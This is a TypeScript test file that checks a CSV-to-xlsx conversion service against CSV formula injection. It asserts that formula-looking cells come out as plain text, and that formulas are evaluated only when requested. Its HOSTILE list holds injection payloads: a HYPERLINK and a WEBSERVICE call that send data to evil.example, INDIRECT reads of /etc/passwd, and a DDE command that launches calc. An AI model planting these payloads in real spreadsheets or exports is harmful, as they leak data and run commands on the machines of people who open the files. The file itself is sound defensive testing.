import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { TestApp } from '../support/test-app.ts';
import { startFileApp } from '../support/file-app.ts';
import { convertAndDownload, json, upload } from '../support/http.ts';
import { listZipEntries, readEntry } from '../../src/files/zip-inspect.ts';

/**
 * Issue 8, item 5: CSV cells are data. Converting hostile CSV (generated here) into a spreadsheet
 * must give cells holding the text as written, never formulas or external links; numbers stay
 * numbers; formulas only when the caller asks with formulas=true.
 */

interface Cell {
  type: string;
  value: string;
  formula: string | null;
}

interface Workbook {
  entries: string[];
  sheetXml: string;
  cells: Map<string, Cell>;
}

const decodeXml = (text: string) =>
  text.replace(/&(#x[0-9a-f]+|#\d+|quot|amp|apos|lt|gt);/gi, (_, entity: string) => {
    if (entity.startsWith('#x') || entity.startsWith('#X')) return String.fromCodePoint(parseInt(entity.slice(2), 16));
    if (entity.startsWith('#')) return String.fromCodePoint(Number(entity.slice(1)));
    return ({ quot: '"', amp: '&', apos: "'", lt: '<', gt: '>' } as Record<string, string>)[entity.toLowerCase()]!;
  });

/** Opens an xlsx by its XML: the first sheet's cells with shared strings resolved. */
async function readWorkbook(content: Buffer): Promise<Workbook> {
  const dir = mkdtempSync(join(tmpdir(), 'csv-injection-'));
  try {
    const path = join(dir, 'book.xlsx');
    writeFileSync(path, content);
    const zip = await listZipEntries(path);
    const text = async (name: string) => {
      const entry = zip.entries.find((e) => e.name === name);
      return entry ? (await readEntry(path, entry, 50 * 1024 * 1024)).toString('utf8') : '';
    };
    const sheetXml = await text('xl/worksheets/sheet1.xml');
    const shared = [...(await text('xl/sharedStrings.xml')).matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) =>
      decodeXml([...m[1]!.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => t[1]!).join('')),
    );
    const cells = new Map<string, Cell>();
    for (const m of sheetXml.matchAll(/<c r="([A-Z]+\d+)"([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const type = /\bt="([^"]+)"/.exec(m[2]!)?.[1] ?? 'n';
      const inner = m[3] ?? '';
      const raw = /<v>([\s\S]*?)<\/v>/.exec(inner)?.[1];
      const formula = /<f[^>]*>([\s\S]*?)<\/f>/.exec(inner)?.[1];
      const value = raw === undefined ? (/<t[^>]*>([\s\S]*?)<\/t>/.exec(inner)?.[1] ?? '') : type === 's' ? shared[Number(raw)]! : decodeXml(raw);
      cells.set(m[1]!, { type, value: decodeXml(value), formula: formula === undefined ? null : decodeXml(formula) });
    }
    return { entries: zip.entries.map((e) => e.name), sheetXml, cells };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** One CSV field, quoted as RFC 4180 says. */
const field = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);

/** Cells that would be formulas, DDE calls or external links if a spreadsheet evaluated them. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  '=WEBSERVICE("http://evil.example/collect")',
  '=INDIRECT("file:///etc/passwd")',
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  "='file:///etc/passwd'#$passwd.A1",
];

describe('CSV cells stay data in spreadsheets (issue 8, item 5)', () => {
  let t: TestApp;
  let base: string;
  let apiKey: string;
  before(async () => {
    ({ t, base, apiKey } = await startFileApp());
  });
  after(() => t?.close());

  async function convert(path: string, csv: string, fields: Record<string, string> = {}): Promise<Workbook> {
    return readWorkbook(await convertAndDownload(base, path, apiKey, { name: 'data.csv', content: Buffer.from(csv) }, fields));
  }

  /** Every conversion from CSV into a spreadsheet; the hostile test runs on each. */
  const spreadsheetRoutes = () =>
    t.services.catalog.tools.filter((tool) => tool.conversion?.from === 'csv' && ['xlsx', 'xls', 'ods'].includes(tool.conversion.to)).map((tool) => tool.path);

  it('knows every CSV-to-spreadsheet route', () => {
    assert.deepEqual(spreadsheetRoutes(), ['/api/v1/office/csv-to-xlsx']);
  });

  it('imports formula-looking cells as their exact text: no <f>, no external links; signed numbers stay numbers', async () => {
    const rows = [['label', 'payload', 'amount'], ...HOSTILE.map((payload, i) => [`row ${i + 1}`, payload, i % 2 === 0 ? '-12.5' : '+3'])];
    const csv = `${rows.map((row) => row.map(field).join(',')).join('\r\n')}\r\n${field('cr')},${field('\r=2+2')},7\r\n`;
    for (const path of spreadsheetRoutes()) {
      const book = await convert(path, csv);
      assert.doesNotMatch(book.sheetXml, /<f[\s>]/, `${path}: a formula was written`);
      assert.ok(!book.entries.some((name) => name.startsWith('xl/externalLinks/')), `${path}: external links ${book.entries.join(', ')}`);
      HOSTILE.forEach((payload, i) => {
        const cell = book.cells.get(`B${i + 2}`);
        assert.ok(cell, `${path}: B${i + 2} missing`);
        assert.equal(cell.formula, null, payload);
        assert.ok(cell.type === 's' || cell.type === 'str' || cell.type === 'inlineStr', `${payload}: type ${cell.type}`);
        assert.equal(cell.value, payload, 'the cell holds the text exactly as written');
        const amount = book.cells.get(`C${i + 2}`);
        assert.deepEqual([amount?.type, amount?.value], ['n', i % 2 === 0 ? '-12.5' : '3'], 'a signed number is a number');
      });
      // Calc reads a lone carriage return inside a quoted field as a line break.
      const cr = book.cells.get(`B${HOSTILE.length + 2}`);
      assert.equal(cr?.type, 's');
      assert.match(cr?.value ?? '', /^[\r\n]=2\+2$/);
    }
  });

  it('keeps a numbers-only CSV numeric', async () => {
    const book = await convert('/api/v1/office/csv-to-xlsx', 'a,b,c\n1,-2.5,+3\n4000,0.125,-7\n');
    assert.doesNotMatch(book.sheetXml, /<f[\s>]/);
    const numbers = ['A2', 'B2', 'C2', 'A3', 'B3', 'C3'].map((ref) => [book.cells.get(ref)?.type, Number(book.cells.get(ref)?.value)]);
    assert.deepEqual(numbers, [['n', 1], ['n', -2.5], ['n', 3], ['n', 4000], ['n', 0.125], ['n', -7]]);
    assert.equal(book.cells.get('A1')?.value, 'a');
  });

  it('evaluates formulas only when asked with formulas=true', async () => {
    const csv = 'item,amount\nfirst,2\nsecond,3\ntotal,=SUM(B2:B3)\n';
    const asked = await convert('/api/v1/office/csv-to-xlsx', csv, { formulas: 'true' });
    assert.equal(asked.cells.get('B4')?.formula, 'SUM(B2:B3)');
    assert.equal(asked.cells.get('B4')?.value, '5');
    const refused = await convert('/api/v1/office/csv-to-xlsx', csv, { formulas: 'false' });
    assert.deepEqual(refused.cells.get('B4'), { type: 's', value: '=SUM(B2:B3)', formula: null });
  });

  it('answers 400 naming the field for a formulas value that is not true or false', async () => {
    const res = await upload(base, '/api/v1/office/csv-to-xlsx', apiKey, { name: 'data.csv', content: Buffer.from('a\n1\n') }, { formulas: 'maybe' });
    const body = await json(res);
    assert.equal(res.status, 400);
    assert.equal(body.status, false);
    assert.equal(body.error, 'validation_error');
    assert.match(JSON.stringify(body), /formulas/);
  });
});
